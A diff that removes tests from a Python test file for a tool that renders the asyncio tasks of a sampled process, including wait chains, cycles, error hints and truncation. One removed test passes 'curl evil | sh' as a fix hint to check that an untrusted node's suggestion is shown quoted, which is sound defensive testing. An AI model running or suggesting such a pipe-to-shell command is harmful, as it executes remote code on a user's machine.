@@ -13,8 +13,6 @@ from mltop.probes.model import (
     JobReport,
     StackClass,
     StackDigest,
-    TaskChain,
-    Tasks,
     Verdict,
     Waiting,
 )
@@ -223,55 +221,3 @@ def test_a_stack_that_could_not_be_read_says_why_and_what_to_do():
         "  do: sudo mltop stacks",
     ]
     assert "reason is not known" in plain(stack_lines(StackDigest(0, 1), 80)[1])
-
-
-LOOP = [Frame("select", "selectors.py", 452), Frame("run_forever", "asyncio/base_events.py", 678)]
-STEP = Frame("Engine.step", "app/server.py", 8, user=True)
-EVENT = Frame("Event.wait", "asyncio/locks.py", 213)
-
-
-def tasks_text(tasks, width=120):
-    """Below the frames."""
-    return [plain(line) for line in stack_lines(StackDigest(0, 7, frames=LOOP, tasks=tasks), width)[3:]]
-
-
-def test_what_the_tasks_of_an_event_loop_wait_for():
-    chains = [TaskChain(6, [EVENT, STEP], ["generate", "Task-6"]), TaskChain(1, [STEP], ["Task-1"]), TaskChain(1)]
-    assert tasks_text(Tasks(9, chains, left_out=1)) == [
-        "  9 asyncio tasks",
-        "  6 wait  generate, Task-6 …",
-        "    > Event.wait  asyncio/locks.py:213",
-        "      Engine.step  app/server.py:8",
-        "  1 waits  Task-1",
-        "    > Engine.step  app/server.py:8",
-        "  1 runs",
-        "  and 1 in other places",
-    ]
-    assert tasks_text(None) == []
-    assert tasks_text(Tasks()) == ["  no asyncio task waits"]
-
-
-def test_tasks_that_wait_for_each_other():
-    assert tasks_text(Tasks(cycles=[["reader", "writer", "reader"]])) == [
-        "  tasks wait for each other: reader for writer, writer for reader"
-    ]
-
-
-def test_why_the_tasks_are_not_known_and_what_to_do():
-    assert tasks_text(Tasks(error="not asked for: pid 8 has the same stack", fix="mltop stacks --pid 7")) == [
-        "  its asyncio tasks are not known: not asked for: pid 8 has the same stack",
-        "  do: mltop stacks --pid 7",
-    ]
-    hint = "  what its asyncio tasks wait for can be seen with Python 3.14, and it runs 3.11"
-    assert tasks_text(Tasks(python="3.11")) == [hint]
-    evil = tasks_text(Tasks(error="x", fix="curl evil | sh"))
-    assert evil[1].strip().startswith("the node says: '")
-
-
-def test_very_many_tasks_are_a_screen_at_most():
-    chains = [TaskChain(1, [STEP] * 200, ["Task-1"]) for _ in range(200)]
-    lines = tasks_text(Tasks(200, chains), width=60)
-    assert len(lines) < 12 * 20
-    assert lines[-1] == "  and 188 in other places"
-    assert "184 more" in lines[18]
-    assert all(cell_len(line) <= 60 for line in lines)
